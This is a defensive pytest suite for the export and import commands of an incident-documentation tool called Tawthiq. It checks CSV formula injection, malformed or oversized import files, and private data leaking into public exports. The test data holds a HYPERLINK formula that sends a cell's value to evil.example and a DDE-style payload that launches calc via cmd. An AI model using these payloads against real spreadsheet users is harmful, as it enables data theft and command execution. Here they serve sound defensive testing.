"""An attack on the plain data files (export-data / import-data) as a hostile or careless
world uses them: cells a spreadsheet runs as formulas, fields our own export writes but
cannot read back, hostile files to import, and private things in public exports."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from conftest import untouched
from tawthiq import services

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CSV_FORMATS = ("csv", "acled", "airwars")


def _public(ws, **values) -> str:  # type: ignore[no-untyped-def]
    base = {
        "title_ar": "قصف",
        "confidentiality": "public",
        "date_start": "2022-11-06",
        "governorate": "Idlib",
        "incident_type": "shelling_artillery_missile",
        "killed": 3,
    }
    with ws.writing() as w:
        return services.incidents.create_incident(w, {**base, **values})


def _cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return [c for row in csv.reader(f) for c in row]


@pytest.mark.parametrize("fmt", CSV_FORMATS)
def test_a_cell_starting_with_a_formula_sign_is_neutralised(run, ws, tmp_path, fmt) -> None:  # type: ignore[no-untyped-def]
    """OWASP CSV injection: a title or narrative (text pasted from anywhere) starting with
    = + - @ runs as a formula when the coordinator opens the file in a spreadsheet."""
    _public(ws, title_en=FORMULA, narrative="@SUM(1+1)*cmd|' /C calc'!A0", place_name="+1+1")
    out = tmp_path / f"x.{fmt}"
    done = run("export-data", "--format", fmt, "-o", str(out))
    assert done.code == 0, done.err
    live = [c for c in _cells(out) if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not live, f"cells a spreadsheet would run: {live}"


def test_our_own_export_of_a_long_narrative_is_taken_back(run, ws, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """A narrative of 200,000 characters (a long report pasted whole) is written by
    export-data csv, but Python's csv reader refuses a field past 131,072 characters."""
    _public(ws, narrative="قصف " * 50_000)
    out = tmp_path / "long.csv"
    assert run("export-data", "--format", "csv", "-o", str(out)).code == 0
    back = run("import-data", str(out), db=tmp_path / "fresh.db")
    assert back.code == 0, back.err
    assert "imported 1 incident(s)" in back.out


def test_a_hostile_file_with_a_huge_field_is_one_sentence_and_exit_2(
    run, db_path, tmp_path
) -> None:  # type: ignore[no-untyped-def]
    from tawthiq.sync.data_formats.cells import LONGEST

    bad = tmp_path / "huge.csv"  # a field longer than any narrative Tawthiq takes
    bad.write_text("title_en,narrative\nA," + "x" * (LONGEST + 1) + "\n", "utf-8")
    done = run("import-data", str(bad))
    assert done.code == 2, done.err
    assert "unexpected error" not in done.err
    assert untouched(db_path)


@pytest.mark.xfail(
    strict=True, reason="review: a list cell joins free-text names with ; and splits on ;"
)
def test_a_source_name_holding_a_semicolon_comes_back_as_one_name(run, ws, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """source_names are free text (people, groups); a list cell joins them with '; ' and
    the import splits on ';', so one name becomes two after a round trip."""
    names = ["Abu Ahmad; the elder of the camp", "الدفاع المدني"]
    kept = _public(ws, source_names=names)
    out = tmp_path / "p.csv"
    assert run("export-data", "--format", "csv", "--private", "-o", str(out)).code == 0
    fresh = tmp_path / "fresh.db"
    assert run("import-data", str(out), db=fresh).code == 0
    other = services.open_workspace(fresh)
    try:
        with other.db.read() as s:
            back = services.incidents.get_incident(s, kept).values["source_names"]
    finally:
        other.close()
    assert list(back) == names


def test_a_mapping_of_two_columns_to_one_field_is_refused(run, db_path, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """Two of their columns mapped to our title: one silently overwrites the other."""
    data = tmp_path / "theirs.csv"
    data.write_text("Title,Headline,Date\nAttack on A,Attack on B,2022-11-06\n", "utf-8")
    mapping = tmp_path / "map.json"
    mapping.write_text(json.dumps({"columns": {"Title": "title_en", "Headline": "title_en",
                                               "Date": "date_start"}}), "utf-8")  # fmt: skip
    done = run("import-data", str(data), "--mapping", str(mapping))
    assert done.code == 2, done.out
    assert untouched(db_path)


@pytest.mark.parametrize(
    "content",
    [
        b"title_en,date_start\nA\x00B,2022-11-06\n",  # NUL byte
        b"title_en,date_start\nA,2999-01-01\n",  # a date far in the future
        b"\xff\xfet\x00i\x00t\x00l\x00e\x00_\x00e\x00n\x00\n\x00",  # UTF-16 with its BOM
        b"title_en,date_start\n\xe9t\xe9,2022-11-06\n",  # Latin-1
        b"id,title_en\nnot-an-id,A\n",
        "title_en,killed_min,killed_max\nA,\u00b2,\u00b2\n".encode(),  # a digit int() refuses
        b"id,title_en\n" + b"00000000-0000-0000-0000-000000000001,A\n" * 2,  # the same id twice
    ],
    ids=["nul", "future", "utf16", "latin1", "bad-id", "superscript", "same-id"],
)
def test_a_hostile_file_changes_nothing_in_one_sentence(run, db_path, tmp_path, content) -> None:  # type: ignore[no-untyped-def]
    bad = tmp_path / "bad.csv"
    bad.write_bytes(content)
    done = run("import-data", str(bad))
    assert done.code == 2, (done.out, done.err)
    assert "unexpected error" not in done.err and "Traceback" not in done.err
    assert untouched(db_path)


def test_a_public_export_holds_nothing_private(run, ws, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """Default exports: no private notes, no named sources, no report text, no incident
    not marked public, no name of a victim not marked public."""
    shown = _public(ws, private_notes="SECRETNOTE", source_names=["SECRETSOURCE"])
    with ws.writing() as w:
        services.incidents.create_incident(
            w, {"title_en": "SECRETINCIDENT", "killed": 1, "private_notes": "x"}
        )
        services.incidents.add_source_report(
            w, {"text": "SECRETREPORTTEXT told by someone", "outlet": "SANA",
                "publication_date": "2022-11-07"}, incident_ids=[shown],
        )  # fmt: skip
    assert run("add-victim", shown[:8], "--name", "SECRETVICTIM", "--status", "killed").code == 0
    for fmt in ("csv", "json", "geojson", "acled", "airwars", "huridocs"):
        out = tmp_path / f"pub.{fmt}"
        done = run("export-data", "--format", fmt, "-o", str(out))
        assert done.code == 0, done.err
        text = out.read_text("utf-8")
        for secret in ("SECRETNOTE", "SECRETSOURCE", "SECRETINCIDENT", "SECRETREPORTTEXT",
                       "SECRETVICTIM"):  # fmt: skip
            assert secret not in text, (fmt, secret)


def test_export_refuses_the_database_and_a_missing_folder(run, ws, db_path, tmp_path) -> None:  # type: ignore[no-untyped-def]
    _public(ws)
    ws.close()
    for target in (db_path, tmp_path / "no" / "such" / "x.csv", tmp_path):
        done = run("export-data", "--format", "csv", "-o", str(target))
        assert done.code == 2, (target, done.err)
        assert "unexpected error" not in done.err
    assert not (tmp_path / "no").exists()


@pytest.mark.parametrize("value", ["NaN", "Infinity", "1e400"])
def test_a_json_file_with_a_coordinate_that_is_no_number_is_refused(
    run, db_path, tmp_path, value
) -> None:  # type: ignore[no-untyped-def]
    """Python's json reads NaN and Infinity (not JSON): a point nowhere on the map."""
    bad = tmp_path / "bad.json"
    bad.write_text(f'[{{"title_en": "A", "lat": {value}, "lon": 36.7}}]', "utf-8")
    done = run("import-data", str(bad))
    assert done.code == 2, (done.out, done.err)
    assert untouched(db_path)


def test_export_data_refusals_speak_of_the_data_file_not_a_pdf(run, ws, db_path, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """export-data borrows the PDF report's output check: its refusals name a PDF."""
    _public(ws)
    ws.close()
    for target in (tmp_path, db_path):
        done = run("export-data", "--format", "csv", "-o", str(target))
        assert done.code == 2
        assert "PDF" not in done.err, done.err


def test_a_public_export_names_no_report_of_a_restricted_incident_grouped_into_it(  # type: ignore[no-untyped-def]
    run, ws, tmp_path
) -> None:
    """A restricted incident (kept back, e.g. for a source's safety) grouped into a public
    one: its reports' outlets and addresses go out with the public incident."""
    from tawthiq.services import grouping

    root = _public(ws)
    with ws.writing() as w:
        hidden = services.incidents.create_incident(w, {"title_en": "kept back", "killed": 3})
        services.incidents.add_source_report(
            w, {"text": "told in confidence", "outlet": "SECRETOUTLET",
                "url": "https://example.org/SECRETURL", "publication_date": "2022-11-07"},
            incident_ids=[hidden],
        )  # fmt: skip
    with ws.writing() as w:
        grouping.group(w, hidden, root)
    for fmt in ("csv", "json", "geojson", "acled", "airwars", "huridocs"):
        out = tmp_path / f"pub.{fmt}"
        assert run("export-data", "--format", fmt, "-o", str(out)).code == 0
        text = out.read_text("utf-8")
        assert "SECRETOUTLET" not in text and "SECRETURL" not in text, fmt


HOSTILE_BUT_TRUE = {
    "title_en": "-3 dead? no: =3 dead, +2 hurt @ the market",
    "title_ar": "\"قصف\" على سوق، و'غارة'",
    "narrative": '\r\nسطر أول\r\n\r\n  indented, "quoted"; semicolons; tabs\tin it\n',
    "date_start": "2022-11-01",
    "date_precision": "month",
    "lat": -0.000001234567891,
    "lon": 179.99999999999997,
    "killed": {"min": 10, "max": 10, "approximate": True},
    "injured": {"min": 0, "max": 0, "approximate": False},
    "confidentiality": "public",
}


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_round_trip_gives_back_hostile_but_true_values_exactly(run, ws, tmp_path, fmt) -> None:  # type: ignore[no-untyped-def]
    """Values a documenter can type (a title starting with a sign, a narrative starting
    with a line break, a month's precision, an approximate zero-free figure, coordinates
    to the last digit) come back byte for byte, also once formula cells are neutralised."""
    with ws.writing() as w:
        kept = services.incidents.create_incident(w, HOSTILE_BUT_TRUE)
    with ws.db.read() as s:
        before = dict(services.incidents.get_incident(s, kept).values)
    out = tmp_path / f"x.{fmt}"
    assert run("export-data", "--format", fmt, "-o", str(out)).code == 0
    fresh = tmp_path / "fresh.db"
    back = run("import-data", str(out), db=fresh)
    assert back.code == 0, back.err
    other = services.open_workspace(fresh)
    try:
        with other.db.read() as s:
            after = dict(services.incidents.get_incident(s, kept).values)
    finally:
        other.close()
    for name in HOSTILE_BUT_TRUE:
        assert after.get(name) == before.get(name), (name, before.get(name), after.get(name))
